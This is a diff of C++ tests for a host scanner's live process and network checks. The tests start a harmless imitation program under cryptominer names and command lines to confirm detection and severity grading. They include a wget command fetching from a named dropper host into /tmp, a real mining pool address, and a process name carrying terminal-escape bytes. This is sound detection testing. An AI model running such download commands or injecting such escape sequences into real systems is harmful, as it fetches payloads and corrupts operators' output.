@@ -90,13 +90,11 @@ TEST(LiveScanTest, SeedZeroMinerIsCriticalWithAncestryAndPoolConnection) {
 // by the app. (An imitation: it never resolves or contacts the host.)
 TEST(LiveScanTest, DownloadFromSeedDropperHostIsCritical) {
   TempDir dir;
-  const std::string ready = dir / "ready";
-  CopyTool("imitation_miner", dir / "wget");
-  Child wget(dir / "wget", {"wget", "https://accrochezvous.fr/javae", "-O", "/tmp/javae"},
-             {{"IMITATION_READY", ready}});
-  ASSERT_TRUE(WaitForFile(ready));
+  const auto wget =
+      StartImitation(dir, "wget", {"wget", "https://accrochezvous.fr/javae", "-O", "/tmp/javae"});
+  ASSERT_NE(wget, nullptr);
   const auto scan = ScanJson({"--only", "processes"});
-  const auto f = FindingsOf(scan, "proc.ioc-cmdline", fmt::format("pid {} ", wget.pid()));
+  const auto f = FindingsOf(scan, "proc.ioc-cmdline", fmt::format("pid {} ", wget->pid()));
   ASSERT_EQ(f.size(), 1u) << scan.dump(2);
   EXPECT_EQ(f[0]["severity"], "critical");
   EXPECT_EQ(f[0]["evidence"]["ioc_host"], "accrochezvous.fr");
@@ -105,12 +103,10 @@ TEST(LiveScanTest, DownloadFromSeedDropperHostIsCritical) {
 // A miner that only says where it mines, and one weak hint: graded, not inflated.
 TEST(LiveScanTest, WeakHintsStayBelowHigh) {
   TempDir dir;
-  const std::string ready = dir / "ready";
-  CopyTool("imitation_miner", dir / "worker");
-  Child weak(dir / "worker", {dir / "worker", "--donate-level=1"}, {{"IMITATION_READY", ready}});
-  ASSERT_TRUE(WaitForFile(ready));
+  const auto weak = StartImitation(dir, "worker", {dir / "worker", "--donate-level=1"});
+  ASSERT_NE(weak, nullptr);
   const auto scan = ScanJson();
-  const auto f = FindingsOf(scan, "proc.miner", fmt::format("pid {} ", weak.pid()));
+  const auto f = FindingsOf(scan, "proc.miner", fmt::format("pid {} ", weak->pid()));
   ASSERT_EQ(f.size(), 1u);
   EXPECT_EQ(f[0]["severity"], "low");
 }
@@ -118,16 +114,13 @@ TEST(LiveScanTest, WeakHintsStayBelowHigh) {
 // The same over IPv6 loopback: sock_diag's AF_INET6 dump, and owners joined.
 TEST(LiveScanTest, PoolConnectionOverIpv6IsFound) {
   TempDir dir;
-  const std::string ready = dir / "ready";
-  CopyTool("imitation_miner", dir / "kdevtmpfsi");
-  Child miner(dir / "kdevtmpfsi", {dir / "kdevtmpfsi"},
-              {{"IMITATION_LISTEN", "[::1]:3333"},
-               {"IMITATION_CONNECT", "[::1]:3333"},
-               {"IMITATION_READY", ready}});
-  ASSERT_TRUE(WaitForFile(ready));
+  const auto miner =
+      StartImitation(dir, "kdevtmpfsi", {dir / "kdevtmpfsi"},
+                     {{"IMITATION_LISTEN", "[::1]:3333"}, {"IMITATION_CONNECT", "[::1]:3333"}});
+  ASSERT_NE(miner, nullptr);
   const auto scan = ScanJson({"--only", "network"});
   const auto f =
-      FindingsOf(scan, "net.pool-connection", fmt::format("[::1]:3333 (pid {} ", miner.pid()));
+      FindingsOf(scan, "net.pool-connection", fmt::format("[::1]:3333 (pid {} ", miner->pid()));
   ASSERT_EQ(f.size(), 1u) << scan.dump(2);
   // A known miner name on a pool port: the owner makes it high, not just medium.
   EXPECT_EQ(f[0]["severity"], "high");
@@ -138,14 +131,12 @@ TEST(LiveScanTest, PoolConnectionOverIpv6IsFound) {
 // characters, a fake terminal escape. The JSON report must still parse.
 TEST(LiveScanTest, HostileCommandLineDoesNotBreakTheReport) {
   TempDir dir;
-  const std::string ready = dir / "ready";
-  const std::string name = dir / "xmrig\xff\x1b[2J";
-  CopyTool("imitation_miner", name);
-  Child miner(name, {name, "-o", "pool.supportxmr.com:3333", "\xc0\xaf\n\t"},
-              {{"IMITATION_READY", ready}});
-  ASSERT_TRUE(WaitForFile(ready));
+  const std::string name = "xmrig\xff\x1b[2J";
+  const auto miner =
+      StartImitation(dir, name, {dir / name, "-o", "pool.supportxmr.com:3333", "\xc0\xaf\n\t"});
+  ASSERT_NE(miner, nullptr);
   const auto scan = ScanJson();
-  const auto f = FindingsOf(scan, "proc.miner", fmt::format("pid {} ", miner.pid()));
+  const auto f = FindingsOf(scan, "proc.miner", fmt::format("pid {} ", miner->pid()));
   ASSERT_EQ(f.size(), 1u);
   const std::string cmdline = f[0]["evidence"]["cmdline"];
   EXPECT_EQ(cmdline.find('\x1b'), std::string::npos) << "control characters are escaped";
